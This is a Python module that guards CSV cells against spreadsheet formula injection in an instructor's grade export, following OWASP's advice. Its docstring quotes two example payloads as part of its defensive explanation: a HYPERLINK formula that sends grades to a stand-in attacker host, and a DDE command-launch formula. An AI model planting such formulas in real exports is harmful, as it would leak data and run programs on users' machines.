"""Make text safe to put in a CSV file that an instructor opens in a spreadsheet.

A spreadsheet reads a CSV cell that starts with ``=``, ``+``, ``-`` or ``@`` (or with a tab
or carriage return, which some of them skip first) as a formula: a student folder called
``=HYPERLINK("https://evil.example/?"&C2, "click")`` becomes a live link that sends the
instructor's grades away, and ``=cmd|' /C calc'!A0`` tries to run a program (DDE). Following
OWASP's advice on CSV injection, :func:`safe_cell` puts a single quote in front of such a
cell, which every spreadsheet shows as text; the quote is visible, and nothing is dropped.

What counts as "starts with" is read broadly, because applications differ and a stray quote
costs nothing while a missed formula costs the class's grades:

- the first character is ``=``, ``+``, ``-``, ``@``, tab or carriage return (OWASP's list);
- or the first character that is not white space or an invisible format character
  (zero-width space, byte-order mark, bidi controls: some importers trim these) is one of
  ``=``, ``+``, ``-``, ``@``, also in its full-width or small forms (``＝``, ``﹢``), which
  NFKC folds to the ASCII ones and some input methods and importers do too;
- or the first character is the quote itself, so that the guard can always be undone
  (:func:`original_cell`): ``'x`` is written ``''x``.

Only text is guarded: numbers (scores) stay numbers. Unicode text is otherwise kept exactly.
Quoting commas, quotes and newlines is the ``csv`` module's job, not this one's.

Trusts nothing; imports only the standard library.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Iterable

QUOTE = "'"
FORMULA_STARTS = frozenset("=+-@")
OWASP_STARTS = FORMULA_STARTS | {"\t", "\r"}


def _skipped(char: str) -> bool:
    """Characters an importer may trim or not show before the real start of a cell."""
    return char.isspace() or unicodedata.category(char) in ("Cc", "Cf")


def needs_guard(text: str) -> bool:
    """Whether a spreadsheet could read this text as a formula (or it starts with the quote
    the guard adds)."""
    if not text:
        return False
    if text[0] in OWASP_STARTS or text[0] == QUOTE:
        return True
    for char in text:
        if not _skipped(char):
            return unicodedata.normalize("NFKC", char)[:1] in FORMULA_STARTS
    return False


def safe_cell(text: str) -> str:
    """The text a CSV cell should hold: ``text`` itself, or ``'`` + ``text`` when a
    spreadsheet could take it for a formula."""
    return QUOTE + text if needs_guard(text) else text


def original_cell(cell: str) -> str:
    """Undo :func:`safe_cell`: ``original_cell(safe_cell(t)) == t`` for every text ``t``."""
    if cell.startswith(QUOTE) and needs_guard(cell[1:]):
        return cell[1:]
    return cell


def safe_row(cells: Iterable[object]) -> list[object]:
    """A CSV row with every text cell guarded; numbers and other values as they are."""
    return [safe_cell(cell) if isinstance(cell, str) else cell for cell in cells]
